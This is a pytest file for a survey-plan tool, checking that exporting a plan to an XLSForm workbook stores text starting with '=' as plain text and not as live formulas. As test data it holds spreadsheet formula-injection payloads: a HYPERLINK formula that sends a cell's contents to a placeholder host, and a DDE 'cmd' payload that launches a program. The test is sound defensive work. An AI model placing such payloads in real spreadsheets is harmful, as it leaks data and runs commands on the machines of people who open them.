"""`plan export --format xlsform` writes every plan text as a text cell: a prompt or a
required_message starting with "=" is never a live formula in the workbook (a spreadsheet
would run it on opening), and it still comes back as the same text."""

from __future__ import annotations

from pathlib import Path

import openpyxl
import pytest

from fieldtui.core.plan.load import parse_plan
from fieldtui.interop.xlsform.exporter import export_plan
from fieldtui.interop.xlsform.importer import import_workbook

pytestmark = pytest.mark.filterwarnings("ignore::DeprecationWarning")
FORMULA = '=HYPERLINK("http://evil.invalid/?"&A1,"Click")'
PLAN = f"""[plan]
id = "cells"
version = 1
title = "=1+1"
method = "interview"
language = "en"
minutes = 2

[[section]]
id = "s"
title = "Home"
minutes = 2

[[section.item]]
id = "rooms"
kind = "number"
prompt = '{FORMULA}'
required = true
required_message = "=cmd|' /C calc'!A0"

[[section.item]]
id = "bye"
kind = "display"
prompt = "=SUM(1,2)"
"""


def test_no_plan_text_is_written_as_a_formula(tmp_path: Path) -> None:
    source = tmp_path / "p.toml"
    source.write_text(PLAN, encoding="utf-8")
    form = tmp_path / "f.xlsx"
    form.write_bytes(export_plan(source))
    book = openpyxl.load_workbook(form)
    formulas = [(sheet.title, cell.coordinate, cell.value) for sheet in book
                for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert formulas == []
    result = import_workbook(form)
    plan = parse_plan(result.text).plan
    assert plan is not None
    assert plan.title == "=1+1"
    assert plan.item("rooms").prompt == FORMULA
    assert plan.item("rooms").required_message == "=cmd|' /C calc'!A0"
    assert plan.item("bye").prompt == "=SUM(1,2)"
